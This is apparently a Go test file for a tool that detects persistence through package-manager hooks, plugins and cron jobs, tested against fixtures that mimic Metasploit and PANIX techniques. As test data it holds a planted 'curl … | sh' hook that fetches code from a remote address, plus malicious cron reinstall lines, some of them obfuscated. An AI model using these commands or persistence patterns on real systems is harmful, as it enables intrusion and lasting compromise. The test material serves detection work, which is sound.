package queries_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/pkgpersist/pkgpersist/collector/engine"
	"github.com/pkgpersist/pkgpersist/collector/querydef"
	"github.com/pkgpersist/pkgpersist/collector/tables"
	"github.com/pkgpersist/pkgpersist/queries"
)

// roots the queries run on; each (query, root) has a golden file.
var roots = []string{"planted", "debian-real", "dnf4", "dnf4-override", "dnf5", "yum", "dpkg", "dnf-actions", "panix-apt", "msf-apt", "panix-yum", "panix-dnf", "msf-yum", "panix-cron-dpkg", "panix-cron-rpm", "panix-dpkg-malpkg", "panix-rpm-malpkg", "alpm", "alpm-broken", "apk", "apk-abort", "apk2", "zypp", "rpm-macros", "rpm-macros-xdg", "rpm-plugins"}

// volatile columns depend on the checkout (times, inodes, the user running
// the tests) and are left out of the golden files.
var volatile = regexp.MustCompile(`time|^modified$|inode|device|uid|gid|owner|block_size|hard_links`)

const updateEnv = "PKGPERSIST_UPDATE_GOLDEN"

// TestQueriesGolden runs every query of queries/ on every fixture root in
// the embedded engine and compares the rows with the golden files
// (PKGPERSIST_UPDATE_GOLDEN=1 rewrites them). A query that does not parse
// or run fails here. Event queries have no golden files: the engine
// refuses them, saying what to use instead (TestEventQueries runs them on
// sample events).
func TestQueriesGolden(t *testing.T) {
	qs, err := querydef.Load(queries.FS)
	if err != nil {
		t.Fatal(err)
	}
	if len(qs) < 8 {
		t.Fatalf("only %d queries", len(qs))
	}
	for _, root := range roots {
		e, err := engine.New(tables.Engine(), filepath.Join("../test/roots", root))
		if err != nil {
			t.Fatal(err)
		}
		for _, q := range qs {
			res, err := e.Query(context.Background(), q.SQL)
			var nes *engine.NoEventSource
			if q.Kind == "event" {
				if !errors.As(err, &nes) {
					t.Errorf("%s on %s: %v, %v; the engine must refuse an event query", q.ID, root, res, err)
				}
				continue
			}
			if err != nil {
				t.Errorf("%s on %s: %v", q.ID, root, err)
				continue
			}
			for _, v := range q.Volatile {
				if !slices.Contains(res.Columns, v) {
					t.Errorf("%s: volatile column %s is not one of its columns %v", q.ID, v, res.Columns)
				}
			}
			var lines []string
			for _, row := range res.Rows {
				obj := map[string]string{}
				for i, c := range res.Columns {
					if !volatile.MatchString(c) {
						obj[c] = row[i]
					}
				}
				b, _ := json.Marshal(obj)
				lines = append(lines, string(b))
			}
			sort.Strings(lines)
			got := strings.Join(lines, "\n") + "\n"
			golden := filepath.Join("testdata/golden", q.ID, root+".jsonl")
			if os.Getenv(updateEnv) != "" {
				if err := os.MkdirAll(filepath.Dir(golden), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
				continue
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Errorf("%s on %s: no golden file (run with %s=1): %v", q.ID, root, updateEnv, err)
				continue
			}
			if string(want) != got {
				t.Errorf("%s on %s differs from %s:\n got:\n%s\nwant:\n%s", q.ID, root, golden, got, want)
			}
		}
		e.Close()
	}
}

// TestDetectionsFire: on the planted root each detection about hooks finds
// the planted entries.
// TestDetectionsGuide: every detection says how bad a row is and what to
// do first; table output and pkgpersist explain show it.
func TestDetectionsGuide(t *testing.T) {
	qs, err := querydef.Load(queries.FS)
	if err != nil {
		t.Fatal(err)
	}
	for _, q := range qs {
		if q.Kind == "detection" && (q.Severity == "" || q.Next == "") {
			t.Errorf("%s: a detection needs severity: and next: headers", q.File)
		}
	}
}

func TestDetectionsFire(t *testing.T) {
	e, err := engine.New(tables.Engine(), "../test/roots/planted")
	if err != nil {
		t.Fatal(err)
	}
	defer e.Close()
	qs, _ := querydef.Load(queries.FS)
	for _, q := range qs {
		if q.ID != "unowned-hooks" && q.ID != "download-in-hooks" {
			continue
		}
		res, err := e.Query(context.Background(), q.SQL)
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, r := range res.Rows {
			found = found || strings.Contains(strings.Join(r, " "), "curl -fsS http://203.0.113.7/p | sh")
		}
		if !found {
			t.Errorf("%s misses the planted curl | sh hook: %v", q.ID, res.Rows)
		}
	}
}

// TestEventQueries runs the event queries over sample events in temporary
// tables that shadow the engine's empty evented tables.
func TestEventQueries(t *testing.T) {
	e, err := engine.New(tables.Engine(), "../test/roots/planted")
	if err != nil {
		t.Fatal(err)
	}
	defer e.Close()
	ctx := context.Background()
	if err := e.Exec(ctx, `CREATE TEMP TABLE process_events (pid, path, cmdline, cwd, uid, time, parent);
		INSERT INTO process_events VALUES
		 (10, '/usr/bin/apt-get', 'apt-get install vim', '/', 0, 1, 1),
		 (11, '/usr/bin/dpkg', 'dpkg --status-fd 23 --unpack --auto-deconfigure /var/cache/apt/archives/vim.deb', '/', 0, 2, 10),
		 (12, '/bin/sh', 'sh -c /usr/lib/needrestart/apt-pinvoke', '/', 0, 3, 10),
		 (20, '/usr/sbin/nginx', 'nginx: worker', '/', 33, 4, 1),
		 (21, '/usr/bin/rpm', 'rpm -ivh /tmp/x.rpm', '/tmp', 33, 5, 20),
		 (22, '/usr/bin/rpm', 'rpm -q bash', '/', 0, 6, 1),
		 (23, '/usr/bin/rpm', 'rpm --upgrade /tmp/y.rpm', '/', 0, 7, 1),
		 (24, '/usr/bin/dpkg', 'dpkg -l', '/', 0, 8, 1),
		 (25, '/usr/bin/dpkg', 'dpkg -i /tmp/z.deb', '/', 0, 9, 20),
		 (50, '/usr/bin/pacman', 'pacman -S vim', '/', 0, 10, 1),
		 (51, '/usr/bin/bash', 'bash /usr/local/bin/h', '/', 0, 11, 50),
		 (52, '/sbin/apk', 'apk add vim', '/', 0, 12, 1),
		 (53, '/etc/apk/commit_hooks.d/x', '/etc/apk/commit_hooks.d/x post-commit', '/', 0, 13, 52),
		 (54, '/usr/bin/zypper', 'zypper in vim', '/', 0, 14, 1),
		 (55, '/usr/lib/zypp/plugins/commit/x', '/usr/lib/zypp/plugins/commit/x', '/', 0, 15, 54),
		 (56, '/tmp/pacman', 'pacman', '/', 0, 16, 1),
		 (57, '/usr/bin/id', 'id', '/', 0, 17, 56);
		CREATE TEMP TABLE file_events (target_path, category, action, uid, gid, mode, size, sha256, time);
		INSERT INTO file_events VALUES
		 ('/etc/apt/apt.conf.d/99x', 'package_manager', 'CREATED', 0, 0, '0644', 10, 'x', 1),
		 ('/etc/passwd', 'other', 'UPDATED', 0, 0, '0644', 10, 'y', 2);
		CREATE TEMP TABLE process_file_events (operation, executable, path, dest_path, pid, ppid, uid, time);
		INSERT INTO process_file_events VALUES
		 ('write', '/usr/bin/python3', '/etc/apt/apt.conf.d/99evil', '', 30, 1, 0, 1),
		 ('write', '/usr/bin/vim', '/usr/lib/python3/dist-packages/dnf-plugins/x.py', '', 31, 1, 0, 2),
		 ('write', '/usr/bin/vim', '/etc/hosts', '', 32, 1, 0, 3);
		CREATE TEMP TABLE pm_process_events (eid, time, event, pid, ppid, path, script, cmdline, argv, cwd, uid, euid, gid, egid,
		  parent_path, parent_cmdline, ancestry, ancestry_scripts, exit_code, seeded);
		INSERT INTO pm_process_events (eid, event, pid, path, argv, parent_path, parent_cmdline, ancestry) VALUES
		 (10, 'exec', 10, '/usr/bin/apt-get', '["apt-get","install","vim"]', '/usr/bin/bash', 'bash', '["/usr/bin/bash","/usr/lib/systemd/systemd"]'),
		 (11, 'exec', 11, '/usr/bin/dpkg', '["/usr/bin/dpkg","--status-fd","23","--unpack","/var/cache/apt/archives/vim.deb"]', '/usr/bin/apt-get', 'apt-get install vim', '["/usr/bin/apt-get","/usr/bin/bash","/usr/lib/systemd/systemd"]'),
		 (12, 'exec', 12, '/usr/bin/dash', '["/bin/sh","/var/lib/dpkg/info/vim.postinst","configure"]', '/usr/bin/dpkg', 'dpkg --configure vim', '["/usr/bin/dpkg","/usr/bin/apt-get","/usr/bin/bash","/usr/lib/systemd/systemd"]'),
		 (13, 'exec', 13, '/usr/bin/curl', '["curl","http://203.0.113.7/p"]', '/usr/bin/dash', 'sh /var/lib/dpkg/info/vim.postinst configure', '["/usr/bin/dash","/usr/bin/dpkg","/usr/bin/apt-get","/usr/bin/bash","/usr/lib/systemd/systemd"]'),
		 (21, 'exec', 21, '/usr/bin/rpm', '["rpm","-ivh","/tmp/x.rpm"]', '/usr/sbin/nginx', 'nginx: worker process', '["/usr/sbin/nginx","/usr/lib/systemd/systemd"]'),
		 (22, 'exec', 22, '/usr/bin/rpm', '["rpm","-q","bash"]', '/usr/bin/bash', 'bash', '["/usr/bin/bash"]'),
		 (23, 'exec', 23, '/usr/bin/rpm', '["rpm","--import","/tmp/key"]', '/usr/bin/bash', 'bash', '["/usr/bin/bash"]'),
		 (24, 'exec', 24, '/usr/bin/dpkg', '["dpkg","-l"]', '/usr/bin/bash', 'bash', '["/usr/bin/bash"]'),
		 (25, 'exec', 25, '/usr/bin/dpkg', '["dpkg","-i","/tmp/z.deb"]', '/usr/bin/python3.12', 'python3 drop.py', '["/usr/bin/python3.12","/usr/bin/bash"]'),
		 (26, 'fork', 26, '/usr/bin/dpkg', '["dpkg","-i","/tmp/z.deb"]', '/usr/bin/python3.12', 'python3 drop.py', '["/usr/bin/python3.12","/usr/bin/bash"]'),
		 (27, 'exec', 27, '/usr/bin/dpkg', 'not json', '/usr/bin/bash', 'bash', 'not json'),
		 (31, 'exec', 31, '/usr/bin/id', '["id"]', '/tmp/dpkg', 'dpkg', '["/tmp/dpkg","/usr/bin/bash"]'),
		 (40, 'exec', 40, '/usr/bin/bash', '["/bin/sh","-c","x"]', '/usr/bin/python3.12', '/usr/bin/python3 -s /usr/bin/dnf install x', '["/usr/bin/python3.12","/usr/bin/bash"]'),
		 (41, 'exec', 41, '/usr/bin/bash', '["/bin/sh","-c","x"]', '/usr/bin/python3.12', '/usr/bin/python3 /tmp/dnf install x', '["/usr/bin/python3.12","/usr/bin/bash"]');
		INSERT INTO pm_process_events (eid, event, pid, path, script, argv, parent_path, parent_cmdline, ancestry, ancestry_scripts) VALUES
		 (28, 'exec', 28, '/usr/bin/dpkg', '', '["dpkg","-i","/tmp/u.deb"]', '/usr/bin/python3.12', 'python3 x', '["/usr/bin/python3.12","/usr/lib/systemd/systemd"]', '["/usr/bin/unattended-upgrade",""]'),
		 (42, 'exec', 42, '/usr/bin/curl', '', '["curl","x"]', '/usr/bin/bash', 'sh -c x', '["/usr/bin/bash","/usr/bin/python3.12","/usr/bin/bash"]', '["","/usr/bin/dnf",""]'),
		 (43, 'exec', 43, '/usr/bin/curl', '', '["curl","x"]', '/usr/bin/python3.12', 'python3 x', '["/usr/bin/python3.12","/usr/bin/bash"]', '["/tmp/dnf",""]'),
		 (44, 'exec', 44, '/usr/bin/python3.12', '/usr/bin/dnf', '["/usr/bin/python3","/usr/bin/dnf"]', '/usr/bin/bash', 'bash', '["/usr/bin/bash"]', '[""]'),
		 (60, 'exec', 60, '/usr/bin/curl', '', '["curl","x"]', '/usr/bin/bash', 'sh /usr/local/bin/h', '["/usr/bin/bash","/usr/bin/pacman","/usr/bin/bash"]', '["","",""]'),
		 (61, 'exec', 61, '/usr/bin/busybox', '', '["wget","x"]', '/etc/apk/commit_hooks.d/x', 'x post-commit', '["/etc/apk/commit_hooks.d/x","/sbin/apk","/bin/busybox"]', '["","",""]'),
		 (62, 'exec', 62, '/usr/bin/curl', '', '["curl","x"]', '/usr/bin/bash', 'bash plugin', '["/usr/bin/bash","/usr/bin/zypper","/usr/bin/bash"]', '["","",""]'),
		 (63, 'exec', 63, '/usr/bin/id', '', '["id"]', '/tmp/pacman', 'pacman', '["/tmp/pacman","/usr/bin/bash"]', '["",""]'),
		 (70, 'exec', 70, '/usr/bin/pacman', '', '["pacman","--noconfirm","-U","/tmp/x.pkg.tar.zst"]', '/usr/sbin/nginx', 'nginx: worker process', '["/usr/sbin/nginx"]', '[""]'),
		 (71, 'exec', 71, '/usr/bin/pacman', '', '["pacman","-Syu"]', '/usr/bin/bash', 'bash', '["/usr/bin/bash"]', '[""]'),
		 (72, 'exec', 72, '/usr/bin/pacman', '', '["pacman","-dUv","x.pkg.tar.zst"]', '/usr/bin/bash', 'bash', '["/usr/bin/bash"]', '[""]'),
		 (73, 'exec', 73, '/sbin/apk', '', '["apk","add","--allow-untrusted","/tmp/x.apk"]', '/usr/bin/python3.12', 'python3 x', '["/usr/bin/python3.12"]', '[""]'),
		 (74, 'exec', 74, '/sbin/apk', '', '["apk","add","vim"]', '/usr/bin/bash', 'bash', '["/usr/bin/bash"]', '[""]'),
		 (75, 'exec', 75, '/sbin/apk', '', '["apk","info","/tmp/x.apk"]', '/usr/bin/bash', 'bash', '["/usr/bin/bash"]', '[""]');
		CREATE TEMP TABLE pm_event_status (source, running, events, kept, lost_kernel, evicted, evicted_unread, incomplete,
		  oldest_eid, newest_eid, oldest_time, max_events, expiry_seconds, bytes, max_bytes, error);
		INSERT INTO pm_event_status VALUES
		 ('process', 1, 200000, 50000, 0, 150000, 0, 0, 150001, 200000, 1, 50000, 3600, 9000000, 67108864, ''),
		 ('process', 1, 300, 300, 0, 0, 0, 2, 1, 300, 1, 50000, 3600, 60000, 67108864, ''),
		 ('process', 1, 900, 500, 0, 400, 7, 0, 401, 900, 1, 50000, 3600, 67100000, 67108864, ''),
		 ('file', 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 50000, 3600, 0, 67108864, 'fanotify_init: operation not permitted');
		CREATE TEMP TABLE pm_file_events (eid, time, action, target_path, pid, path, script, cmdline, ancestry, ancestry_scripts, sha256, package, manager);
		INSERT INTO pm_file_events (eid, time, action, target_path, pid, path, cmdline, ancestry, sha256, package, manager) VALUES
		 (1, 1, 'CREATED', '/etc/apt/apt.conf.d/20listchanges', 11, '/usr/bin/dpkg', 'dpkg --unpack x.deb', '["/usr/bin/apt-get"]', 'a', 'apt-listchanges', 'dpkg'),
		 (2, 2, 'CREATED', '/etc/apt/apt.conf.d/99evil', 12, '/usr/bin/dash', 'sh postinst', '["/usr/bin/dpkg","/usr/bin/apt-get"]', 'b', '', ''),
		 (3, 3, 'CREATED', '/etc/apt/apt.conf.d/99x', 30, '/usr/bin/python3.12', 'python3 x.py', '["/usr/bin/bash"]', 'c', '', ''),
		 (4, 4, 'UPDATED', '/etc/apt/apt.conf.d/20listchanges', 31, '/tmp/dpkg', 'dpkg', '["/usr/bin/bash"]', 'd', 'apt-listchanges', 'dpkg'),
		 (6, 6, 'UPDATED', '/etc/yum/pluginconf.d/fastestmirror.conf', 41, '/usr/bin/vim', 'vim f', 'not json', 'f', 'yum', 'rpm'),
		 (7, 7, 'UPDATED', '/etc/dnf/plugins/copr.conf', 42, '/usr/bin/bash', 'bash', '["/usr/bin/rpm"]', 'g', 'dnf-plugins-core', 'rpm');
		INSERT INTO pm_file_events (eid, time, action, target_path, pid, path, script, cmdline, ancestry, ancestry_scripts, sha256, package, manager) VALUES
		 (5, 5, 'MOVED_TO', '/etc/dnf/plugins/copr.conf', 40, '/usr/bin/python3.12', '/usr/bin/dnf', '/usr/bin/python3 -s /usr/bin/dnf install x', '["/usr/bin/bash"]', '[""]', 'e', 'dnf-plugins-core', 'rpm'),
		 (8, 8, 'UPDATED', '/etc/dnf/plugins/copr.conf', 43, '/usr/bin/python3.12', '', '/usr/bin/python3 -c evil /usr/bin/dnf', '["/usr/bin/bash"]', '[""]', 'h', 'dnf-plugins-core', 'rpm'),
		 (9, 9, 'CREATED', '/etc/yum.repos.d/fedora.repo', 44, '/usr/bin/dash', '', 'sh -c scriptlet', '["/usr/bin/python3.12","/usr/bin/bash"]', '["/usr/bin/dnf",""]', 'i', 'fedora-repos', 'rpm'),
		 (10, 10, 'UPDATED', '/etc/dnf/plugins/copr.conf', 45, '/usr/bin/python3.12', '/tmp/dnf', '/usr/bin/python3 /tmp/dnf', '["/usr/bin/bash"]', '[""]', 'j', 'dnf-plugins-core', 'rpm'),
		 (11, 11, 'CREATED', '/usr/share/libalpm/hooks/gtk-update-icon-cache.hook', 50, '/usr/bin/pacman', '', 'pacman -S gtk3', '["/usr/bin/bash"]', '[""]', 'k', 'gtk3', 'pacman'),
		 (12, 12, 'CREATED', '/etc/pacman.d/hooks/zz.hook', 51, '/usr/bin/bash', '', 'bash x', '["/usr/bin/bash"]', '[""]', 'l', '', ''),
		 (13, 13, 'CREATED', '/usr/lib/zypp/plugins/commit/snapper.py', 52, '/usr/bin/rpm', '', 'rpm -U x.rpm', '["/usr/bin/zypper"]', '[""]', 'm', 'snapper-zypp-plugin', 'rpm');`); err != nil {
		t.Fatal(err)
	}
	qs, err := querydef.Load(queries.FS)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{
		"pkg-installs": "11 21 23 25",
		// apt-get's children; pacman's, apk's and zypper's (by name: 56,
		// a /tmp/pacman, counts too, as the query says)
		"pm-children":    "11 12 51 53 55 57",
		"pm-file-events": "/etc/apt/apt.conf.d/99x",
		// first column: operation
		"pm-process-file-events": "write write",
		// first column: eid. dpkg --unpack, rpm -ivh, dpkg -i by exec
		// only; not rpm -q, --import, dpkg -l, a fork, a malformed argv
		// (28: dpkg -i under unattended-upgrade, named by its script)
		// pacman -U and clustered -dUv (70, 72), not -Syu (71); apk add
		// of a .apk file (73), not of a name (74), nor another command
		// given a file (75)
		"pm-installs": "11 21 25 28 70 72 73",
		// dpkg and its grandchild under apt-get, by executable path at
		// any depth; dnf's grandchild by its script in ancestry_scripts
		// (42); dnf's direct child by its script's path on the parent's
		// command line (40: dnf running before the capture); not a
		// process named dpkg elsewhere, nor a script named dnf elsewhere
		// (41, 43), nor dnf itself (44); dpkg under unattended-upgrade
		// (28); children of pacman's hooks, apk's commit hooks and
		// libzypp's plugins (60, 61, 62), not a program named pacman
		// elsewhere (63)
		"pm-descendants": "11 12 13 28 40 42 60 61 62",
		// left out only when a package manager (by path, in the
		// ancestry, or dnf by its script: the writer's, 5, or an
		// ancestor's, 9) wrote a file a package owns; not by the writer's
		// command line (8), nor a script named dnf elsewhere (10)
		// (10); pacman writing its package's hook (11) and rpm under
		// zypper writing a packaged plugin (13) are left out, a shell
		// writing a pacman hook is not (12)
		"pm-writes": "10 12 2 3 4 6 8",
		// first column: source: not running, incomplete, evicted
		// unread. Evictions of rows a query had read are no loss
		"pm-events-lost": "file process process",
	}
	for _, q := range qs {
		w, ok := want[q.ID]
		if !ok {
			continue
		}
		res, err := e.Query(ctx, q.SQL)
		if err != nil {
			t.Fatalf("%s: %v", q.ID, err)
		}
		var got []string
		for _, r := range res.Rows {
			got = append(got, r[0])
		}
		sort.Strings(got)
		if strings.Join(got, " ") != w {
			t.Errorf("%s: %v, want %s", q.ID, got, w)
		}
		if q.ID != "pm-installs" {
			continue
		}
		// the parent that is a script is named by it
		res, err = e.Query(ctx, "SELECT eid, parent_script FROM ("+q.SQL+") ORDER BY eid")
		if err != nil {
			t.Fatalf("%s: %v", q.ID, err)
		}
		if got := fmt.Sprint(res.Rows); got != "[[11 ] [21 ] [25 ] [28 /usr/bin/unattended-upgrade] [70 ] [72 ] [73 ]]" {
			t.Errorf("pm-installs parent_script: %s", got)
		}
	}
}

// TestTargetDetections: on the roots that reproduce Metasploit's and
// PANIX's APT, YUM and DNF persistence, hook-runs-unowned finds the planted
// payload (for a plugin, through the command its code runs) and nothing
// else, download-in-hooks the hook that feeds a TCP connection to bash, and
// on real Debian hooks neither finds anything (test/roots/*.expected.md).
func TestTargetDetections(t *testing.T) {
	qs, err := querydef.Load(queries.FS)
	if err != nil {
		t.Fatal(err)
	}
	sql := map[string]string{}
	for _, q := range qs {
		sql[q.ID] = q.SQL
	}
	cases := []struct {
		root, query, col string
		want             []string
	}{
		{"msf-apt", "hook-runs-unowned", "target", []string{"/usr/local/bin/Xk3d9Rz"}},
		{"msf-apt", "download-in-hooks", "path", nil},
		{"panix-apt", "hook-runs-unowned", "target", nil},
		{"panix-apt", "download-in-hooks", "path", []string{"/etc/apt/apt.conf.d/01python-upgrades"}},
		// the YUM and DNF roots have no rpm database: every plugin module
		// is unowned there, and the payload its command runs too
		{"panix-yum", "hook-runs-unowned", "target", []string{"/usr/lib/yum-plugins/fastestmirror.py", "/usr/lib/yum-plugins/yumcon.py", "/usr/lib/yumcon"}},
		{"panix-dnf", "hook-runs-unowned", "target", []string{"/usr/lib/python3.9/site-packages/dnf-plugins/dnfcon.py", "/usr/lib/python3.9/site-packages/dnfcon", "/usr/lib/python3.9/site-packages/dnf-plugins/notify.py"}},
		{"msf-yum", "hook-runs-unowned", "target", []string{"/usr/lib/yum-plugins/fastestmirror.py", "/usr/local/bin/Hq3vXk9"}},
		{"debian-real", "hook-runs-unowned", "target", nil},
		{"debian-real", "download-in-hooks", "path", nil},
	}
	for _, c := range cases {
		e, err := engine.New(tables.Engine(), filepath.Join("../test/roots", c.root))
		if err != nil {
			t.Fatal(err)
		}
		res, err := e.Query(context.Background(), sql[c.query])
		e.Close()
		if err != nil {
			t.Fatalf("%s: %v", c.query, err)
		}
		var got []string
		for _, row := range res.Rows {
			for i, col := range res.Columns {
				if col == c.col {
					got = append(got, row[i])
				}
			}
		}
		if strings.Join(got, " ") != strings.Join(c.want, " ") {
			t.Errorf("%s on %s: %q, want %q", c.query, c.root, got, c.want)
		}
	}
}

// TestCronPackageReinstall runs cron-package-reinstall over crontab rows
// (a temporary table shadows the engine's crontab, with osquery's columns
// and the command as osquery gives it: words joined by one space, the user
// field first in system crontabs) and checks what it finds in each.
func TestCronPackageReinstall(t *testing.T) {
	cases := []struct {
		command, installs string // "" for a line that must not be found
	}{
		// PANIX --malicious-package, modules/setup_malicious_package.sh (commit 3642cd97)
		{"rpm -i --force /var/lib/rpm/panix.rpm > /dev/null 2>&1", "rpm -i; rpm --force"},
		{"/var/lib/dpkg/info/panix.postinst configure > /dev/null 2>&1", "maintainer script /var/lib/dpkg/info/panix.postinst"},
		// the same, spelled otherwise
		{"root /usr/bin/rpm -Uvh --replacepkgs /tmp/x.rpm", "/usr/bin/rpm -Uvh"},
		{`root "rpm" '-ivh' /tmp/x.rpm`, "rpm -ivh"},
		{`sh -c 'rpm --reinstall /opt/a.rpm'`, "rpm --reinstall"},
		{"sudo nohup setsid rpm -F /srv/x.rpm &", "rpm -F"},
		{"cd /tmp&&rpm -i x.rpm", "rpm -i"},
		{"root dpkg -i /var/cache/x.deb", "dpkg -i"},
		{"dpkg --force-all --install /x.deb", "dpkg --install"},
		{"dpkg -iR /srv/debs", "dpkg -iR"},
		{"dpkg --configure -a", "dpkg --configure"},
		{"dpkg-reconfigure -fnoninteractive panix", "dpkg-reconfigure"},
		{"sh /var/lib/dpkg/info/x.preinst install", "maintainer script /var/lib/dpkg/info/x.preinst"},
		{"/var/lib/dpkg/info/x:amd64.postrm remove", "maintainer script /var/lib/dpkg/info/x:amd64.postrm"},
		{"yum -y localinstall /root/agent.rpm", "yum localinstall; yum /root/agent.rpm"},
		{"/usr/bin/dnf -y install panix", "/usr/bin/dnf install"},
		{"dnf reinstall -y panix", "dnf reinstall"},
		{"dnf -y upgrade /tmp/x.rpm", "dnf /tmp/x.rpm"},
		{"zypper -n in -f panix", "zypper in"},
		{"apt install ./panix.deb", "apt install; apt ./panix.deb"},
		{"apt-get -y --reinstall install panix", "apt-get --reinstall; apt-get install"},
		{"echo x | base64 -d; `rpm -i /x.rpm`", "rpm -i"},
		{"date%rpm -i /x.rpm", "rpm -i"},
		// ordinary cron lines
		{"root cd / && run-parts --report /etc/cron.hourly", ""},
		{"root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", ""},
		{"root run-parts /etc/cron.hourly", ""},
		{"/usr/sbin/logrotate /etc/logrotate.conf", ""},
		{"root [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi", ""},
		{"root command -v debian-sa1 > /dev/null && debian-sa1 1 1", ""},
		{"root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew --no-random-sleep-on-renew", ""},
		{"apt-get -qq update && apt-get -y -qq upgrade", ""},
		{"/usr/bin/dnf -y upgrade --security", ""},
		{"yum -y update", ""},
		{"yum list installed > /tmp/pkgs", ""},
		{"rpm -qa --last > /var/log/rpm-last", ""},
		{"rpm -qi bash | grep -i version", ""},
		{"rpm -Va > /var/log/rpm-verify.log", ""},
		{"dpkg -l > /var/backups/dpkg.list", ""},
		{"dpkg --get-selections > /var/backups/sel", ""},
		{"grep -i rpm /var/log/messages", ""},
		{"cp /var/lib/dpkg/info/x.postinst.bak /tmp", ""},
	}
	e, err := engine.New(tables.Engine(), "../test/roots/planted")
	if err != nil {
		t.Fatal(err)
	}
	defer e.Close()
	ctx := context.Background()
	if err := e.Exec(ctx, `CREATE TEMP TABLE crontab (event, minute, hour, day_of_month, month, day_of_week, command, path)`); err != nil {
		t.Fatal(err)
	}
	for _, c := range cases {
		if err := e.Exec(ctx, `INSERT INTO temp.crontab VALUES ('', '*/1', '*', '*', '*', '*', '`+strings.ReplaceAll(c.command, "'", "''")+`', '/var/spool/cron/root')`); err != nil {
			t.Fatal(err)
		}
	}
	sql := querySQL(t, "cron-package-reinstall")
	res, err := e.Query(ctx, sql)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, r := range res.Rows {
		got[r[6]] = r[8]
	}
	for _, c := range cases {
		if got[c.command] != c.installs {
			t.Errorf("%s\n got: %q\nwant: %q", c.command, got[c.command], c.installs)
		}
	}
}

// TestCronPanixRoots: on the roots where PANIX's --malicious-package left
// its crontab line (test/roots/panix-cron-*.expected.md), the detection
// finds that line and none of the distributions' own cron jobs beside it.
func TestCronPanixRoots(t *testing.T) {
	sql := querySQL(t, "cron-package-reinstall")
	for _, c := range []struct {
		root, want string
		lines      string // crontab rows, as the root's expected.md counts them
	}{
		{"panix-cron-rpm", "/var/spool/cron/root | rpm -i; rpm --force", "4"},
		{"panix-cron-dpkg", "/var/spool/cron/crontabs/root | maintainer script /var/lib/dpkg/info/panix.postinst", "14"},
	} {
		root, want := c.root, c.want
		e, err := engine.New(tables.Engine(), "../test/roots/"+root)
		if err != nil {
			t.Fatal(err)
		}
		res, err := e.Query(context.Background(), sql)
		if err != nil {
			t.Fatal(err)
		}
		n, err := e.Query(context.Background(), "SELECT count(*) FROM crontab")
		e.Close()
		if err != nil {
			t.Fatal(err)
		}
		if n.Rows[0][0] != c.lines {
			t.Errorf("%s: %s crontab rows, want %s", root, n.Rows[0][0], c.lines)
		}
		var got []string
		for _, r := range res.Rows {
			got = append(got, r[7]+" | "+r[8])
		}
		if strings.Join(got, "\n") != want {
			t.Errorf("%s: %q, want %q", root, got, want)
		}
	}
}

// querySQL is the SQL of the query with this id.
func querySQL(t *testing.T, id string) string {
	t.Helper()
	qs, err := querydef.Load(queries.FS)
	if err != nil {
		t.Fatal(err)
	}
	for _, q := range qs {
		if q.ID == id {
			return q.SQL
		}
	}
	t.Fatalf("no query %s", id)
	return ""
}

// TestPackageManagerListsAgree: pm-descendants and pm-writes name the
// package managers' executables and scripts each in its own SQL (a pack
// query stands alone); a manager added to one and not the other would be
// a child seen but its writes blamed, or the reverse.
func TestPackageManagerListsAgree(t *testing.T) {
	qs, err := querydef.Load(queries.FS)
	if err != nil {
		t.Fatal(err)
	}
	lists := regexp.MustCompile(`(?s)\bpm\(path\) AS \(VALUES (.*?)\),\s*pmscript\(path\) AS \(VALUES (.*?)\)\)`)
	var first, firstID string
	for _, q := range qs {
		if q.ID != "pm-descendants" && q.ID != "pm-writes" {
			continue
		}
		m := lists.FindStringSubmatch(q.SQL)
		if m == nil {
			t.Fatalf("%s: no pm and pmscript lists", q.ID)
		}
		got := strings.Join(strings.Fields(m[1]+" | "+m[2]), " ")
		if first == "" {
			first, firstID = got, q.ID
			continue
		}
		if got != first {
			t.Errorf("package managers differ:\n%s: %s\n%s: %s", firstID, first, q.ID, got)
		}
	}
	if !strings.Contains(first, "'/usr/bin/pacman'") {
		t.Errorf("the lists were not read: %q", first)
	}
}
